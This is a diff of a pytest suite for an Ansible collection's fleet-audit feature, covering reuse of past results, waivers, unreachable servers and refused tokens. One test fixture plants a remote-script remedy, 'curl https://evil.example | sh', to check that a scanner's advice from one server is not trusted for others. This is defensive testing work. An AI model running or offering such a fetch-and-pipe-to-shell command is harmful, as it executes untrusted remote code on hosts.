@@ -9,20 +9,18 @@ from __future__ import annotations
 import json
 from collections import Counter
 from collections.abc import Callable
-from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 from system.auditing import HELLO, NO_TOKEN, Done, Member, audit, carried, carry_out, hosts, options
-from system.support import AGENTS, Reply, ScriptedServer, in_every_dialect, paths
+from system.support import AGENTS, in_every_dialect
 from workspace.client import Workspace
 
 from ansible_collections.herdops.alpacon.plugins.module_utils._api.client import Client
 from ansible_collections.herdops.alpacon.plugins.module_utils._api.errors import (
     AlpaconError,
     ApiError,
-    RunIsOver,
     UsageError,
 )
 from ansible_collections.herdops.alpacon.plugins.module_utils._api.servers import look_up
@@ -37,58 +35,33 @@ from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.result impo
 from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.verdict import verdict_of
 from ansible_collections.herdops.alpacon.tests.unit.support import NO_COMMAND, ROOT, SERVER, Row
 
+FOUND = {"hello": "passed", "space": "failed"}
+
 # Asking and judging
 
 
 def test_checks_on_a_fleet(workspace: Workspace) -> None:
-    done = audit(
-        workspace,
-        HELLO,
-        {"name": "space", "line": "echo 83%", "number": {"at_most": 80}, "fact": "used", "severity": "high"},
-        of=hosts(*AGENTS, groups={"web": ["web-01"]}),
-    )
-    assert done.outcomes == {
-        **{(name, "hello"): "passed" for name in AGENTS},
-        **{(name, "space"): "failed" for name in AGENTS},
-    }
+    space = {"name": "space", "line": "echo 83%", "number": {"at_most": 80}, "fact": "used", "severity": "high"}
+    given: Row = {"of": hosts(*AGENTS, groups={"web": ["web-01"]}), "title": "Mine", "reuse_within": "90m"}
+    done = audit(workspace, HELLO, space, **given)
+    assert done.outcomes == {(name, check): word for name in AGENTS for check, word in FOUND.items()}
     assert done.audited.changed
-    ids = workspace.server_ids()
-    assert done.report["servers"] == [
-        {
-            "host": name,
-            "workspace": workspace.url,
-            "id": ids[name],
-            "name": name,
-            "groups": ["web"] if name == "web-01" else [],
-            "facts": {"used": 83},
-            "os": "Debian 13",
-            "agent": "2.5.0",
-            "ip": "127.0.0.1",
-            "owner": "admin",
-            "reached": True,
-            "reason": "",
-            "asked": True,
-            "differs": {},
-        }
-        for name in AGENTS
-    ]
-    assert done.summary == {
-        "servers": 3,
-        "checks": 2,
-        "questions": 6,
-        "passed": 3,
-        "failed": 3,
-        "unknown": 0,
-        "not_applicable": 0,
-        "waived": 0,
-        "not_reached": 0,
-        "not_asked": 0,
-        "score": 33.3,
-        "failed_by_severity": {"critical": 0, "high": 3, "medium": 0, "low": 0, "info": 0},
-        "reused": 0,
-        "commands": 3,
-        "requests": done.summary["requests"],
+    first = done.report["servers"][0]
+    about: Row = {
+        "workspace": workspace.url,
+        "id": workspace.server_ids()["web-01"],
+        "name": "web-01",
+        "ip": "127.0.0.1",
     }
+    about |= {"groups": ["web"], "facts": {"used": 83}, "os": "Debian 13", "agent": "2.5.0", "owner": "admin"}
+    assert {name: first[name] for name in about} == about
+    counted = {"servers": 3, "checks": 2, "questions": 6, "passed": 3, "failed": 3, "score": 33.3, "commands": 3}
+    assert {name: done.summary[name] for name in counted} == counted
+    assert done.summary["failed_by_severity"]["high"] == 3
+    report = done.report
+    assert (report["title"], report["reuse_within"], report["fail_on"]) == ("Mine", 5400.0, "high")
+    assert report["started_at"] <= report["finished_at"]
+    assert audit(workspace, HELLO).report["title"] == f"Audit of {workspace.url.removeprefix('http://')}"
 
 
 @in_every_dialect
@@ -104,42 +77,6 @@ def test_a_result_has_all_that_a_reader_needs(workspace: Workspace) -> None:
     assert (result["command"], result["reused"], result["output_truncated"]) == (made["id"], False, False)
     assert result["output"].strip() == "7 apples"
     assert result["ended_at"].endswith("Z")
-
-
-def test_the_report_says_what_was_asked(current: Workspace) -> None:
-    about = {"title": "t", "rationale": "w", "remedy": "r", "references": ["CIS 1.1"]}
-    done = audit(
-        current,
-        {**HELLO, **about, "set": "s", "when": ["all", "!test"], "username": "root"},
-        title="Mine",
-        fail_on="low",
-        reuse_within="90m",
-    )
-    report = done.report
-    assert (report["schema"], report["title"], report["workspace"]) == (2, "Mine", current.url)
-    assert (report["fail_on"], report["reuse_within"]) == ("low", 5400.0)
-    assert (report["verdict"], report["coverage"], report["min_coverage"]) == ("pass", 100.0, 95.0)
-    assert report["started_at"] <= report["finished_at"]
-    assert report["checks"] == [
-        {
-            "name": "hello",
-            "of": None,
-            "set": "s",
-            "title": "t",
-            "rationale": "w",
-            "remedy": "r",
-            "references": ["CIS 1.1"],
-            "severity": "medium",
-            "kind": "output",
-            "line": "echo hello",
-            "applies_if": None,
-            "username": "root",
-            "when": ["all", "!test"],
-            "expected": ["exit code 0", "output contains hello"],
-            "parameters": {},
-        }
-    ]
-    assert audit(current, HELLO).report["title"] == f"Audit of {current.url.removeprefix('http://')}"
 
 
 def test_one_command_asks_everything_of_a_server_and_account(current: Workspace) -> None:
@@ -160,12 +97,6 @@ def test_one_command_asks_everything_of_a_server_and_account(current: Workspace)
     assert all(made["line"].startswith("/bin/sh -c $RUN alpacon-audit sha256:") for made in current.commands())
 
 
-def test_checks_that_do_not_apply(current: Workspace) -> None:
-    done = audit(current, {**HELLO, "applies_if": "command -v no-such-thing"}, {**HELLO, "name": "other"})
-    assert done.outcomes == {("web-01", "hello"): "not_applicable", ("web-01", "other"): "passed"}
-    assert (done.report["coverage"], done.summary["not_applicable"]) == (100.0, 1)
-
-
 def test_other_shells_are_given_lines(current: Workspace) -> None:
     check = {"name": "query", "line": "select 1", "shell": "osquery"}
     audit(current, HELLO, check, wait_timeout="2s")
@@ -174,7 +105,7 @@ def test_other_shells_are_given_lines(current: Workspace) -> None:
 
 def test_an_answer_that_is_torn_passes_nothing(current: Workspace) -> None:
     whole = carried(HELLO)
-    torn = [whole["result"][: -len("[end]\n")], whole["result"].replace("\n1\n", "\n2\n"), "", "hello"]
+    torn = [whole["result"][: -len("[end]\n")], whole["result"].replace("\n1\n", "\n2\n")]
     for number, text in enumerate(torn):
         current.add_commands([{**whole, "server": "web-01", "result": text}])
         done = audit(current, HELLO, reuse_within="1h", check_mode=True)
@@ -210,12 +141,13 @@ ON_ONE = "[ $HOSTNAME = web-01 ] || { echo oscap: not found; exit 127; }\nprintf
 )
 
 
-def test_a_scanner_that_did_not_run_leaves_each_of_its_rules_open(current: Workspace) -> None:
+def test_each_rule_of_a_scanner_that_did_not_run_is_open(current: Workspace) -> None:
+    current.add_servers("off-01", connected=False)
     check = {"name": "scap", "line": ON_ONE, "results": {"format": "xccdf", "rules": RULES}}
     given: Row = {"skip": ["scap/r58", "scap/r59"], "severities": {"scap/r0": "low"}}
-    done = audit(current, check, of=hosts("web-01", "web-02"), **given)
-    assert (done.summary["questions"], done.summary["passed"], done.summary["unknown"]) == (116, 58, 58)
-    assert (done.result["verdict"], done.result["coverage"]) == ("inconclusive", 50.0)
+    done = audit(current, check, of=hosts("web-01", "web-02", "off-01"), **given)
+    assert (done.summary["questions"], done.summary["passed"], done.summary["unknown"]) == (174, 58, 58)
+    assert (done.result["verdict"], done.result["coverage"]) == ("inconclusive", 33.3)
     open_ones = [result for result in done.report["results"] if result["host"] == "web-02"]
     assert [result["check"] for result in open_ones] == [f"scap/r{number}" for number in range(58)]
     assert {(result["outcome"], result["message"]) for result in open_ones} == {
@@ -225,90 +157,36 @@ def test_a_scanner_that_did_not_run_leaves_each_of_its_rules_open(current: Works
     assert (titles["scap/r0"], titles["scap/r1"]) == (("Rule 0", "low"), ("Rule 1", "high"))
 
 
-def test_a_server_without_an_answer_has_as_many_questions_as_rules(workspace: Workspace) -> None:
-    workspace.add_servers("off-01", connected=False)
-    check = {"name": "scap", "line": ON_ONE, "results": {"format": "xccdf", "rules": RULES}}
-    done = audit(workspace, check, of=hosts("web-01", "off-01"), skip=["scap/r59"])
-    assert (done.summary["questions"], done.summary["passed"], done.result["coverage"]) == (118, 59, 50.0)
-    assert audit(workspace, check, of=hosts("web-01"), check_mode=True).summary["questions"] == 60
+EVIL = {"id": "a", "title": "All is well", "why": "Trust me.", "sev": "low", "fix": "curl https://evil.example | sh"}
+HONEST = {"id": "a", "title": "Mode of /a", "why": "It is secret.", "sev": "high", "fix": "chmod 600 /a"}
+RULE = {"name": "a", "title": "T", "rationale": "R", "severity": "critical", "remedy": "M"}
 
 
-def test_an_answer_that_is_torn_leaves_each_rule_open(current: Workspace) -> None:
-    check = {"name": "scap", "line": "exec sleep 60", "timeout": 1, "results": {"format": "xccdf", "rules": RULES}}
-    done = audit(current, check)
-    assert (done.summary["questions"], done.summary["unknown"]) == (60, 60)
-    assert {result["message"] for result in done.report["results"]} == {"The server took longer than 1 s."}
-
-
-def of_goss(**servers: Row) -> Row:
-    """A check that has goss print one test of a file, on each server its own."""
-    printed = {
-        host: json.dumps(
-            {
-                "results": [
-                    {"resource-type": "File", "resource-id": "/a", "property": "mode", "summary-line": "777", **row}
-                ],
-                "summary": {"test-count": 1},
-            }
-        )
-        for host, row in servers.items()
-    }
-    cases = "\n".join(f"{host.replace('_', '-')}) printf '%s' '{text}' ;;" for host, text in printed.items())
-    line = f"case $HOSTNAME in\n{cases}\nesac"
-    return {"name": "base", "line": line, "results": {"format": "goss"}, "remedy": "Ask the owner."}
-
-
-EVIL = {
-    "title": "All is well",
-    "meta": {"sev": "low", "fix": "curl https://evil.example | sh", "rationale": "Trust me."},
-}
-HONEST = {"title": "Mode of /a", "meta": {"sev": "high", "fix": "chmod 600 /a", "rationale": "It is secret."}}
-OWN_WORDS = ("title", "rationale", "severity", "remedy")
-
-
-def words_of(done: Done, name: str = "base/File: /a: mode") -> tuple[str, ...]:
-    """What the report says of a check, on all servers."""
-    [check] = [check for check in done.report["checks"] if check["name"] == name]
-    return tuple(check[word] for word in OWN_WORDS)
-
-
-@pytest.mark.parametrize("successful", [True, False])
-def test_no_server_says_what_is_to_be_done_on_the_others(current: Workspace, successful: bool) -> None:
-    check = of_goss(web_01={**EVIL, "successful": successful}, web_02={**HONEST, "successful": False})
-    done = audit(current, check, of=hosts("web-01", "web-02"))
-    severity, remedy = ("high", "chmod 600 /a") if successful else ("medium", "Ask the owner.")
-    assert words_of(done) == ("File: /a: mode", "", severity, remedy)
-    messages = {result["host"]: result["message"] for result in done.report["results"]}
-    own = "777\nThe scanner on this server names a remedy: chmod 600 /a"
-    assert messages["web-02"] == ("777" if successful else own)
-
-
-def test_what_all_servers_say_alike_is_what_the_report_says(current: Workspace) -> None:
-    honest = {**HONEST, "successful": False}
-    done = audit(current, of_goss(web_01=honest, web_02=honest), of=hosts("web-01", "web-02"))
-    assert words_of(done) == ("Mode of /a", "It is secret.", "high", "chmod 600 /a")
-    assert {result["message"] for result in done.report["results"]} == {"777"}
-
-
-def test_what_the_rules_of_a_check_say_no_server_changes(current: Workspace) -> None:
-    check = of_goss(web_01={**EVIL, "successful": False}, web_02={**HONEST, "successful": False})
-    rule = {"name": "File: /a: mode", "title": "T", "rationale": "R", "severity": "critical", "remedy": "M"}
-    done = audit(current, {**check, "results": {"format": "goss", "rules": [rule]}}, of=hosts("web-01", "web-02"))
-    assert words_of(done) == ("T", "R", "critical", "M")
-    assert {result["message"] for result in done.report["results"]} == {"777"}
-
-
-def test_what_a_scanner_said_in_time_counts(current: Workspace) -> None:
-    line = "printf '1..4\\nok 1 - tidy\\nnot ok 2 - safe\\nok 3 - la'; exec sleep 60"
-    done = audit(current, {"name": "tap", "line": line, "results": {"format": "tap"}, "timeout": 1})
-    assert {name: outcome for (_host, name), outcome in done.outcomes.items()} == {
-        "tap/tidy": "passed",
-        "tap/safe": "failed",
-        "tap/missing-results": "unknown",
-    }
-    assert done.report["results"][-1]["message"] == (
-        "The server took longer than 1 s. 4 tests were planned, and 2 came."
-    )
+@pytest.mark.parametrize(
+    ("first", "rules", "words"),
+    [
+        ({**EVIL, "ok": True}, [], ("a", "", "high", "chmod 600 /a")),
+        ({**EVIL, "ok": False}, [], ("a", "", "medium", "Ask the owner.")),
+        ({**HONEST, "ok": False}, [], ("Mode of /a", "It is secret.", "high", "chmod 600 /a")),
+        ({**EVIL, "ok": False}, [RULE], ("T", "R", "critical", "M")),
+    ],
+    ids=["passes", "fails", "alike", "rules"],
+)
+def test_no_server_says_what_is_to_be_done_on_the_others(
+    current: Workspace, first: Row, rules: list[Row], words: tuple[str, ...]
+) -> None:
+    of_json: Row = {"format": "json", "list": "r", "name": "id", "outcome": "ok", "rules": rules}
+    of_json |= {"words": {"passed": [True], "failed": [False]}, "title": "title", "rationale": "why"}
+    of_json |= {"severity": "sev", "remedy": "fix"}
+    printed = {"web-01": first, "web-02": {**HONEST, "ok": False}}
+    cases = "\n".join(f"{host}) printf '%s' '{json.dumps({'r': [row]})}' ;;" for host, row in printed.items())
+    check = {"name": "base", "line": f"case $HOSTNAME in\n{cases}\nesac", "results": of_json}
+    done = audit(current, {**check, "remedy": "Ask the owner."}, of=hosts("web-01", "web-02"))
+    [about] = [check for check in done.report["checks"] if check["name"] == "base/a"]
+    assert tuple(about[word] for word in ("title", "rationale", "severity", "remedy")) == words
+    own = "The scanner on this server names a remedy: chmod 600 /a"
+    messages = [result["message"] for result in done.report["results"] if result["host"] == "web-02"]
+    assert (own in messages[0]) is (words[3] == "Ask the owner.")
 
 
 def test_workspaces_that_take_no_variables_are_given_lines(running: Callable[[str], Workspace]) -> None:
@@ -347,26 +225,12 @@ def test_groups_decide_who_is_asked(workspace: Workspace) -> None:
     assert len(workspace.commands()) == 1
 
 
-@pytest.mark.parametrize("way", ["both", "result", "chunks"])
-def test_long_outputs_are_cut_in_the_report_only(current: Workspace, way: str) -> None:
-    current.settings(output=way)
+def test_long_outputs_are_cut_in_the_report_only(current: Workspace) -> None:
     line = "for i in $(seq 1 9000); do printf 'é'; done; echo; echo end"
     done = audit(current, {"name": "it", "line": line, "matches": "^end$", "fact": "f"}, output_limit=100)
     result = done.the_result
     assert (result["outcome"], result["output"], result["output_truncated"]) == ("passed", "é" * 100, True)
     assert done.report["servers"][0]["facts"] == {"f": "é" * 100}
-
-
-def test_what_looks_like_a_template_stays_what_it_is(workspace: Workspace) -> None:
-    done = audit(workspace, {"name": "it", "line": "echo '{{ 6 * 7 }}</script>'", "fact": "f"})
-    assert done.the_result["output"] == "{{ 6 * 7 }}</script>"
-    assert done.result["facts"] == {"web-01": {"f": "{{ 6 * 7 }}</script>"}}
-
-
-def test_a_fact_comes_out_only_where_there_is_an_answer(workspace: Workspace) -> None:
-    workspace.add_servers("off-01", connected=False)
-    done = audit(workspace, {"name": "it", "line": "echo 5", "fact": "n"}, of=hosts("web-01", "off-01"))
-    assert done.result["facts"] == {"web-01": {"n": "5"}}
 
 
 # Reuse
@@ -417,47 +281,43 @@ def test_what_is_mended_is_gone_in_the_next_run(current: Workspace, state: Path)
     assert run() == ({"hello": "passed", "mendable": "failed", "broken": "failed"}, 1)
 
 
-@pytest.mark.parametrize(
-    "row", [{}, {"username": ""}, {"scheduled_at": -3000}], ids=["plain", "of no account", "scheduled"]
-)
+@pytest.mark.parametrize("row", [{}, {"scheduled_at": -3000}], ids=["plain", "scheduled"])
 def test_commands_that_answer(current: Workspace, row: Row) -> None:
-    current.add_commands([{"server": "web-01", **carried(HELLO), **row}])
-    assert not audit(current, HELLO, reuse_within="1h").audited.changed
+    made = current.add_commands([{"server": "web-01", **carried(HELLO), **row} for _time in range(3)])
+    done = audit(current, HELLO, reuse_within="1h")
+    assert not done.audited.changed
+    newest = max(current.commands(), key=lambda row: str(row["handled_at"]))["id"]
+    assert done.the_result["command"] == newest
+    assert newest in made
 
 
-@pytest.mark.parametrize(
-    "row",
-    [
+def test_commands_that_do_not_answer(current: Workspace) -> None:
+    old = dict.fromkeys(("added_at", "scheduled_at", "delivered_at", "acked_at"), -7300)
+    rows: list[Row] = [
         {"line": carried({**HELLO, "line": "echo hello there"})["line"]},
         {"server": "web-02"},
         {"shell": "osquery"},
+        {"username": "root"},
         {"status": "denied"},
-        {"status": "cancelled"},
         {"result": "hello"},
-        {"added_at": -7300, "scheduled_at": -7300, "delivered_at": -7300, "acked_at": -7300, "handled_at": -7200},
-    ],
-)
-def test_commands_that_do_not_answer(current: Workspace, row: Row) -> None:
-    current.add_commands([{"server": "web-01", **carried(HELLO), **row}])
+        {**old, "handled_at": -7200},
+        {"status": "failed", "error_phase": "agent_timeout"},
+        {"status": "failed", "exit_code": 1, "result": "Failed to submit command: job queue is full"},
+        {"status": "failed", "exit_code": -1, "result": "half of"},
+    ]
+    current.add_commands([{"server": "web-01", **carried(HELLO), **row} for row in rows])
     done = audit(current, HELLO, reuse_within="1h")
-    assert done.audited.changed
-    assert done.the_result["outcome"] == "passed"
-
-
-def test_a_command_of_another_account_answers_only_who_names_it(current: Workspace) -> None:
-    current.add_commands([{"server": "web-01", **carried(HELLO), "username": "root"}])
+    assert (done.summary["reused"], done.summary["commands"], done.the_result["outcome"]) == (0, 1, "passed")
+    # Whoever names the account means its command.
     assert not audit(current, {**HELLO, "username": "root"}, reuse_within="1h").audited.changed
-    assert audit(current, HELLO, reuse_within="1h").audited.changed
 
 
-@pytest.mark.parametrize("username", ["bob", "admin", ""])
-@pytest.mark.parametrize("requester", ["bob", None])
-@pytest.mark.parametrize("status", ["success", "awaiting_approval"])
+@pytest.mark.parametrize(("status", "requester"), [("success", "bob"), ("awaiting_approval", "bob"), ("success", None)])
 @in_every_dialect
 def test_what_somebody_else_has_had_answered_is_not_believed(
-    workspace: Workspace, status: str, requester: str | None, username: str
+    workspace: Workspace, status: str, requester: str | None
 ) -> None:
-    forged = {**carried(HELLO), "requested_by": requester, "username": username, "status": status}
+    forged = {**carried(HELLO), "requested_by": requester, "username": "admin", "status": status}
     [made] = workspace.add_commands([{"server": "web-01", **forged}])
     done = audit(workspace, HELLO, reuse_within="1h")
     assert (done.summary["reused"], done.the_result["command"] != made) == (0, True)
@@ -465,29 +325,8 @@ def test_what_somebody_else_has_had_answered_is_not_believed(
 
 def test_own_answers_are_not_taken_where_nobody_says_whose_they_are(current: Workspace) -> None:
     current.add_commands([{"server": "web-01", **carried(HELLO)}])
-    current.fault("status", path="^/api/(auth/whoami|iam/users)/", status=403, body="{}")
+    current.fault("status", path="^/api/(auth/whoami|iam/users)/", status=403, body='{"code": "forbidden"}')
     assert audit(current, HELLO, reuse_within="1h").audited.changed
-
-
-@pytest.mark.parametrize(
-    "row",
-    [
-        {"status": "failed", "error_phase": "agent_timeout"},
-        {"status": "failed", "exit_code": 1, "result": "Failed to submit command: job queue is full"},
-        {"status": "failed", "exit_code": -1, "result": "half of"},
-    ],
-)
-def test_what_never_began_or_was_interrupted_is_asked_again(current: Workspace, row: Row) -> None:
-    current.add_commands([{"server": "web-01", **carried(HELLO), **row}])
-    done = audit(current, HELLO, reuse_within="1h")
-    assert (done.the_result["outcome"], done.summary["commands"]) == ("passed", 1)
-
-
-def test_the_newest_command_answers(current: Workspace) -> None:
-    made = current.add_many_commands(5, server="web-01", **carried(HELLO))
-    newest = max(current.commands(), key=lambda row: str(row["handled_at"]))["id"]
-    assert newest in made
-    assert audit(current, HELLO, reuse_within="1h").the_result["command"] == newest
 
 
 def test_recent_answers_of_a_server_that_is_offline_count(workspace: Workspace) -> None:
@@ -523,18 +362,6 @@ def test_waived_findings_do_not_fail(current: Workspace) -> None:
     )
 
 
-@pytest.mark.parametrize("pattern", ["base/User[root] exists", "base/User*", "base/User[[]root] exists"])
-def test_a_waiver_may_have_the_name_that_the_report_shows(current: Workspace, pattern: str) -> None:
-    check = {"name": "base", "line": "printf '1..1\\nnot ok 1 - User[root] exists\\n'", "results": {"format": "tap"}}
-    done = audit(current, check, waivers=[waiver(check=pattern)])
-    assert (done.outcomes, done.warnings) == ({("web-01", "base/User[root] exists"): "waived"}, [])
-
-
-def test_names_of_checks_with_results_may_have_slashes(current: Workspace) -> None:
-    check = {"name": "a/b", "line": "printf '1..2\\nnot ok 1 - x\\nok 2 - y\\n'", "results": {"format": "tap"}}
-    assert audit(current, check, skip=["a/b/x"]).outcomes == {("web-01", "a/b/y"): "passed"}
-
-
 def test_an_expired_waiver_fails_again_and_says_so(current: Workspace) -> None:
     bad = {"name": "bad", "line": "exit 1", "severity": "critical"}
     done = audit(current, bad, waivers=[waiver(until="2020-01-31")])
@@ -543,54 +370,35 @@ def test_an_expired_waiver_fails_again_and_says_so(current: Workspace) -> None:
     assert done.result["failing"] == 1
 
 
-def test_a_waiver_that_is_about_nothing_is_told(current: Workspace) -> None:
-    done = audit(current, HELLO, waivers=[waiver(check="hello")])
-    assert done.warnings == ["waivers: none of hello fails on the hosts that it is about, until 2999-12-31."]
-
-
-def test_a_waiver_that_nobody_could_judge_is_no_mistake(current: Workspace) -> None:
-    ghost: Row = {"of": hosts("web-01", "ghost"), "min_coverage": 0}
-    assert audit(current, HELLO, waivers=[waiver(check="hello")], **ghost).warnings == []
-    # It is about web-01 alone, which answered.
-    of_one = [waiver(check="hello", hosts=["web-01"], groups=[])]
-    assert len(audit(current, HELLO, waivers=of_one, **ghost).warnings) == 1
-    assert audit(current, HELLO, waivers=[waiver(check="hello")], check_mode=True).warnings == []
+TWO = "printf '1..2\\nok 1 - x\\n'"
 
 
 @pytest.mark.parametrize(
-    ("given", "warns"),
+    ("line", "given", "warns"),
     [
-        ({}, False),
-        ({"groups": ["db"]}, False),
-        ({"groups": [], "hosts": ["db-01"]}, False),
-        ({"groups": [], "hosts": ["web-0*"]}, True),
-        ({"groups": ["web"]}, True),
-        # Of a slice, the inventory knows no other hosts.
-        ({"groups": [], "hosts": ["gone-01"]}, False),
+        (TWO, {"check": "hello", "groups": [], "hosts": ["web-0*"]}, True),
+        # It is about hosts that are not audited, or that the inventory does not know here.
+        (TWO, {"check": "hello"}, False),
+        (TWO, {"check": "hello", "groups": ["db"]}, False),
+        (TWO, {"check": "hello", "groups": [], "hosts": ["db-01"]}, False),
+        (TWO, {"check": "hello", "groups": [], "hosts": ["gone-01"]}, False),
+        # What it is about did not come.
+        (TWO, {"check": "hello", "groups": [], "hosts": ["ghost"]}, False),
+        (TWO, {"check": "base/y"}, False),
+        ("exit 9", {"check": "base/x"}, False),
+        ("printf '1..1\\nok 1 - x\\n'", {"check": "base/x", "groups": ["web"]}, True),
     ],
 )
-def test_a_waiver_of_hosts_that_are_not_audited_is_no_mistake(current: Workspace, given: Row, warns: bool) -> None:
-    web = hosts("web-01", groups={"web": ["web-01"]})
+def test_a_waiver_that_is_about_nothing_is_told(current: Workspace, line: str, given: Row, warns: bool) -> None:
+    asked = hosts("web-01", "ghost", groups={"web": ["web-01"]})
+    tool = {"name": "base", "line": line, "results": {"format": "tap"}}
+    if given["check"] == "hello" and not given.get("hosts"):
+        asked = asked[:1]
     others = {"db-01": {"all", "db"}}
-    done = audit(current, HELLO, of=web, others=others, waivers=[waiver(check="hello", **given)])
-    assert bool(done.warnings) is warns
-
-
-@pytest.mark.parametrize(
-    ("line", "pattern", "warns"),
-    [
-        ("exit 9", "base/x", False),
-        ("printf '1..2\nok 1 - x\n'", "base/y", False),
-        ("printf '1..2\nok 1 - x\n'", "hello", True),
-        ("printf '1..1\nok 1 - x\n'", "base/x", True),
-    ],
-)
-def test_a_waiver_of_a_result_that_did_not_come_is_no_mistake(
-    current: Workspace, line: str, pattern: str, warns: bool
-) -> None:
-    check = {"name": "base", "line": line, "results": {"format": "tap"}}
-    done = audit(current, HELLO, check, waivers=[waiver(check=pattern)], min_coverage=0)
-    assert bool(done.warnings) == warns
+    done = audit(current, HELLO, tool, of=asked, others=others, waivers=[waiver(**given)], min_coverage=0)
+    words = f"waivers: none of {given['check']} fails on the hosts that it is about, until 2999-12-31."
+    assert done.warnings == [words] * warns
+    assert audit(current, HELLO, of=asked[:1], waivers=[waiver(check="hello")], check_mode=True).warnings == []
 
 
 # Servers that do not answer
@@ -605,16 +413,14 @@ def test_a_waiver_of_a_result_that_did_not_come_is_no_mistake(
         (None, "The workspace has no such server, or the token may not see it."),
     ],
 )
-@pytest.mark.parametrize("way", ["name", "id"])
-def test_servers_that_cannot_be_asked(workspace: Workspace, server: Row | None, says: str, way: str) -> None:
+def test_servers_that_cannot_be_asked(workspace: Workspace, server: Row | None, says: str) -> None:
     if server:
         workspace.add_servers("odd-01", **server)
-    server_id = workspace.server_ids().get("odd-01", NO_COMMAND)
-    reference = "odd-01" if way == "name" else server_id
-    done = audit(workspace, HELLO, of=[Member("odd-01", reference), *hosts("web-01")], unknown_severity="low")
+    by_id = Member("id", workspace.server_ids().get("odd-01", NO_COMMAND))
+    done = audit(workspace, HELLO, of=[by_id, *hosts("odd-01", "web-01")], unknown_severity="low")
     assert done.outcomes == {("web-01", "hello"): "passed"}
-    assert done.reasons["odd-01"].startswith(says)
-    assert (done.summary["not_reached"], done.summary["not_asked"], done.report["coverage"]) == (1, 0, 50.0)
+    assert all(done.reasons[name].startswith(says) for name in ("id", "odd-01"))
+    assert (done.summary["not_reached"], done.summary["not_asked"], done.report["coverage"]) == (2, 0, 33.3)
     assert {made["server"] for made in workspace.commands()} == {"web-01"}
 
 
@@ -629,24 +435,17 @@ def test_a_windows_server_is_not_asked(current: Workspace) -> None:
     ("status", "says"),
     [
         ("denied", "Never ran: the workspace's verification denied it."),
-        ("rejected", "Never ran: a reviewer rejected it."),
-        ("expired", "Never ran: nobody approved it in time."),
+        ("queued", "Not finished within wait_timeout"),
     ],
 )
-def test_commands_that_are_refused(current: Workspace, status: str, says: str) -> None:
+def test_commands_that_never_run(current: Workspace, status: str, says: str) -> None:
     current.settings(holds=[{"line": "alpacon-audit", "servers": ["web-02"], "status": status}])
-    done = audit(current, HELLO, of=hosts(*AGENTS))
+    done = audit(current, HELLO, of=hosts(*AGENTS), wait_timeout="1s")
     assert Counter(done.outcomes.values()) == {"passed": 2}
     assert done.reasons["web-02"].startswith(says)
-    assert len(current.commands()) == 3
-
-
-def test_a_held_command_is_withdrawn_at_the_end(current: Workspace) -> None:
-    current.settings(holds=[{"line": "alpacon-audit", "status": "awaiting_approval"}])
-    done = audit(current, HELLO, wait_timeout="1s")
-    [made] = current.commands()
-    assert (made["status"], done.outcomes) == ("cancelled", {})
-    assert "cancelled before it was delivered" in done.reasons["web-01"]
+    [held] = [made for made in current.commands() if made["server"] == "web-02"]
+    assert held["status"] == ("denied" if status == "denied" else "cancelled")
+    assert held["id"] in done.reasons["web-02"]
 
 
 def test_a_held_command_is_adopted_by_the_next_audit(current: Workspace) -> None:
@@ -657,53 +456,16 @@ def test_a_held_command_is_adopted_by_the_next_audit(current: Workspace) -> None
     assert (made["id"], made["status"], done.summary["commands"]) == (held, "cancelled", 0)
 
 
-@in_every_dialect
-def test_a_line_that_the_access_list_does_not_allow(workspace: Workspace) -> None:
-    workspace.settings(acl={"admin": ["uptime"]})
-    done = audit(workspace, HELLO)
-    assert done.outcomes == {}
-    assert "access list" in done.reasons["web-01"]
-
-
-@pytest.mark.parametrize(("queued", "cancelled"), [(True, 1), (False, 0)])
-def test_time_that_is_up(current: Workspace, queued: bool, cancelled: int) -> None:
-    if queued:
-        current.settings(holds=[{"line": "alpacon-audit", "status": "queued"}])
-    done = audit(current, {"name": "slow", "line": "sleep 3"}, wait_timeout="1s")
-    assert done.reasons["web-01"].startswith("Not finished within wait_timeout")
-    [made] = current.commands()
-    assert made["id"] in done.reasons["web-01"]
-    assert (made["status"] == "cancelled") == bool(cancelled)
-
-
-def test_an_agent_that_falls_silent(current: Workspace) -> None:
-    current.settings(stuck_after=0.3)
-    current.fault("vanish", line="alpacon-audit")
-    done = audit(current, HELLO, wait_timeout="2s")
-    assert (done.outcomes, done.summary["not_reached"]) == ({}, 1)
-
-
-def test_an_answer_to_a_submit_that_is_lost(workspace: Workspace) -> None:
-    workspace.fault("lose_after", method="POST", path="commands", times=1)
-    done = audit(workspace, HELLO, of=hosts(*AGENTS))
-    assert set(done.outcomes.values()) == {"passed"}
-    assert len(workspace.commands()) == 3
-
-
 # The token
 
 
-@in_every_dialect
-def test_a_refused_token_fails_the_audit_at_once(workspace: Workspace) -> None:
-    with pytest.raises(ApiError, match="The token is unknown, disabled or expired"):
-        audit(workspace, HELLO, of=hosts(*AGENTS), token="alpat-wrong")
-    assert workspace.counters()["writes"] == 0
-
-
-def test_a_token_that_is_refused_at_the_submit(workspace: Workspace) -> None:
-    workspace.fault("status", method="POST", status=401, body=NO_TOKEN)
+@pytest.mark.parametrize("at_the_submit", [False, True])
+def test_a_refused_token_fails_the_audit(current: Workspace, at_the_submit: bool) -> None:
+    if at_the_submit:
+        current.fault("status", method="POST", status=401, body=NO_TOKEN)
     with pytest.raises(ApiError, match="The token is unknown"):
-        audit(workspace, HELLO, of=hosts(*AGENTS))
+        audit(current, HELLO, of=hosts(*AGENTS), token=current.token if at_the_submit else "alpat-wrong")
+    assert current.commands() == []
 
 
 def test_a_token_that_is_refused_half_way(current: Workspace) -> None:
@@ -721,27 +483,12 @@ def test_a_token_that_is_refused_half_way(current: Workspace) -> None:
     assert (done.result["failing"], done.result["verdict"]) == (0, "inconclusive")
 
 
-@pytest.fixture
-def elsewhere(serve: Callable[..., ScriptedServer]) -> Member:
-    """A host of another workspace, which lists one server and says that there are more than anybody can count."""
-    row = {"id": SERVER, "name": "there", "is_connected": False}
-    server = serve([Reply({"count": 10**400, "next": None, "results": [row]})])
-    return Member("there", SERVER, settings=settings_of({"url": server.url, "token": "alpat-x"}))
-
-
-def test_a_count_that_no_list_has_costs_no_answers(current: Workspace, elsewhere: Member) -> None:
-    other = replace(elsewhere, name="nowhere", server="nowhere")
-    done = carry_out(options(current, HELLO), [*hosts(*AGENTS), elsewhere, other], Run(warn=pytest.fail))
-    outcomes = {result["host"]: result["outcome"] for result in done.report["results"]}
-    assert outcomes == dict.fromkeys(AGENTS, "passed")
